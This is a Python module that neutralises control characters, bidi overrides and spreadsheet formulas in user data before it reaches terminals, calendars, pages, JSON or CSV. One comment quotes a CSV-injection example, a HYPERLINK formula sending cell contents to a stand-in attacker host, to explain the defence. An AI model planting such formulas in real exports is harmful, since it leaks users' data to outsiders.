"""Control and bidi characters from the user's files, made harmless for each place they are shown.

A value in a journal file can hold any character: YAML escapes such as "\\e]0;title\\a" put a terminal
escape sequence in a name, and U+202E (right-to-left override) reverses the text after it. Each output
has one function here, and every command's output goes through it:

- `terminal_safe`: text for a terminal, or a text file a terminal may show (CSV, Markdown): C0 and C1
  controls, DEL and bidi controls become visible escapes such as `\\x1b` and `\\u202e`;
- `without_controls`: text for a format that forbids controls (iCalendar): they become U+FFFD;
- `isolate_bidi`: a value shown inside other text (a page): wrapped in FSI ... PDI, Unicode's form of
  HTML's `<bdi>`, so that a bidi control inside it cannot reorder the text around it;
- `spreadsheet_cell`: a CSV cell a spreadsheet will open: one it would run as a formula is kept as text.
"""

from __future__ import annotations

import re

# Unicode's explicit bidi formatting characters: embeddings, overrides, isolates and their terminators.
# (LRM, RLM and ALM are strong characters, not controls: they never reach past their own value.)
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_BIDI = re.compile(f"[{BIDI_CONTROLS}]")
_ISOLATES_OPEN = "\u2066\u2067\u2068"
_PDI = "\u2069"
FSI = "\u2068"

# One line: every C0 control but tab, DEL, every C1 control, and the bidi controls.
_UNSAFE_LINE = re.compile(f"[\x00-\x08\x0a-\x1f\x7f-\x9f{BIDI_CONTROLS}]")
# Several lines: the same, but a line feed (alone or after a carriage return) stays a line break.
_UNSAFE_TEXT = re.compile(f"\r(?!\n)|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f{BIDI_CONTROLS}]")
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def terminal_safe(text: str, *, multiline: bool = False) -> str:
    """`text` with every character that could take over a terminal shown as an escape (`\\x1b`, `\\u202e`).

    `multiline`: keep line feeds and CRLF line ends (a CSV file, a calendar); a lone carriage return,
    which would let a line overwrite the one before it, is escaped either way.
    """
    if text.isprintable():
        return text  # nearly every line: one C-level pass (controls and bidi controls are not printable)
    return (_UNSAFE_TEXT if multiline else _UNSAFE_LINE).sub(_escape, text)


def without_controls(text: str) -> str:
    """`text` with C0 controls (but tab, line feed and carriage return), DEL and C1 controls as U+FFFD."""
    if text.isprintable():
        return text
    return _CONTROLS.sub("\ufffd", text)


def has_bidi_controls(text: str) -> bool:
    return not text.isascii() and _BIDI.search(text) is not None


def isolate_bidi(text: str) -> str:
    """`text` unchanged, or, when it holds bidi controls, wrapped in FSI ... PDI so they stay inside it.

    A closing PDI with no isolate of the value's own to close would end the wrapper early: it is dropped.
    The final PDI ends every embedding and override still open inside (Unicode's bidi rule X6a).
    """
    if not has_bidi_controls(text):
        return text
    kept: list[str] = []
    open_isolates = 0
    for char in text:
        if char in _ISOLATES_OPEN:
            open_isolates += 1
        elif char == _PDI:
            if not open_isolates:
                continue
            open_isolates -= 1
        kept.append(char)
    return FSI + "".join(kept) + _PDI * (open_isolates + 1)


# What JSON (with ensure_ascii=False) writes as it is but a terminal would act on: DEL, C1, bidi controls.
_JSON_UNSAFE = re.compile(f"[\x7f-\x9f{BIDI_CONTROLS}]")


def json_safe(text: str) -> str:
    """JSON text with DEL, C1 and bidi controls written as `\\u` escapes: the same JSON, safe to print.

    They can only stand inside JSON strings (the rest of JSON is ASCII), where `\\u009b` means the same.
    """
    if text.isascii():
        return text
    return _JSON_UNSAFE.sub(lambda match: f"\\u{ord(match.group()):04x}", text)


# What Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP's "CSV injection"):
# `=HYPERLINK("http://evil.example/?"&B3)` in an imported company name would send the sheet's cells away.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?\Z")


def spreadsheet_cell(text: str) -> str:
    """`text`, or `'text` when a spreadsheet would read it as a formula: the apostrophe keeps it text.

    A plain signed number (`-5`, `+15550100`) is left as it is: a spreadsheet reads it as a number, and
    runs nothing.
    """
    if text.startswith(_FORMULA_START) and not _NUMBER.match(text):
        return "'" + text
    return text
